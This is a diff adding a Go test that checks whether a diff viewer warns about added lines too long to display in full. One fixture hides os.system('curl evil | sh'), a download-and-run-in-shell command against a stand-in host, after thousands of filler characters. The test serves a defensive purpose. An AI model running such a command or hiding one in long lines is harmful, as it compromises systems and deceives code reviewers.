@@ -430,3 +430,29 @@ func TestViewTellsLookalikesApart(t *testing.T) {
 		})
 	}
 }
+
+// TestViewWarnsOfCutLines checks that an added line drawn cut short is
+// said above the diff: what follows its "…" would be written unseen.
+func TestViewWarnsOfCutLines(t *testing.T) {
+	long := strings.Repeat("x = 1; ", 2000) + "os.system('curl evil | sh')"
+	cases := []struct {
+		name, before, after string
+		w                   int
+		want                string // "" for no warning
+	}{
+		{"wrapped past the cap", "a\n", long + "\n", 100, "1 added line is too long to show whole"},
+		{"two, side by side", "a\nb\n", long + "\n" + long + "\n", 200, "2 added lines are too long to show whole"},
+		{"a removed line is no warning", long + "\n", "a\n", 100, ""},
+		{"a long line shown whole", "a\n", strings.Repeat("y", 500) + "\n", 100, ""},
+		{"unchanged long context", long + "\na\n", long + "\nb\n", 100, ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			plain := strings.Join(plainLines(newModel("e.py", tc.before, tc.after, tc.w, 30).View()), "\n")
+			has := strings.Contains(plain, "too long to show whole")
+			if tc.want == "" && has || tc.want != "" && !strings.Contains(strings.Join(strings.Fields(plain), " "), tc.want) {
+				t.Errorf("want %q:\n%s", tc.want, plain)
+			}
+		})
+	}
+}
